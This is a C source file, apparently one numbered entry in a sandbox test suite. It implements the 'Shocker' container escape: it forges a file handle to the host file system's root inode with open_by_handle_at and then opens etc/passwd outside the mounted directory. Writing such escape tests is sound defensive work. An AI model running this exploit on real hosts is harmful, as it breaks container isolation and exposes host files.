/* SPDX-License-Identifier: Apache-2.0 */
/* Attack 11, "Shocker": open a file of the host by its handle, without a path. `handle DIR…`:
 * for each directory, a handle that the kernel gives and the well-known one of the root of an
 * ext file system (inode 2), which lies above whatever part of it is mounted here. */
#include "attempt.h"

#include <linux/types.h>

struct known {
    struct file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
};

static long by_own_handle(const void *data)
{
    struct known known = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount_id = 0;
    int dir = open(data, O_RDONLY | O_DIRECTORY);
    if (dir < 0 || name_to_handle_at(dir, "", &known.handle, &mount_id, AT_EMPTY_PATH) < 0)
        return -1;
    return open_by_handle_at(dir, &known.handle, O_RDONLY);
}

static long by_root_inode(const void *data)
{
    struct known known = {.handle = {.handle_bytes = 8, .handle_type = 1}};
    const __u32 root[2] = {2, 0};
    memcpy(known.handle.f_handle, root, sizeof(root));
    int dir = open(data, O_RDONLY | O_DIRECTORY);
    int fd = dir < 0 ? -1 : open_by_handle_at(dir, &known.handle, O_RDONLY | O_DIRECTORY);
    return fd < 0 ? -1 : openat(fd, "etc/passwd", O_RDONLY);
}

int main(int argc, char **argv)
{
    char name[300];
    for (int i = 1; i < argc; i++) {
        const char *slash = strrchr(argv[i], '/');
        const char *last = slash && slash[1] ? slash + 1 : "root";
        (void)snprintf(name, sizeof(name), "own_handle_%.200s", last);
        attempt_with(name, by_own_handle, argv[i]);
        (void)snprintf(name, sizeof(name), "root_inode_%.200s", last);
        attempt_with(name, by_root_inode, argv[i]);
    }
    return 0;
}
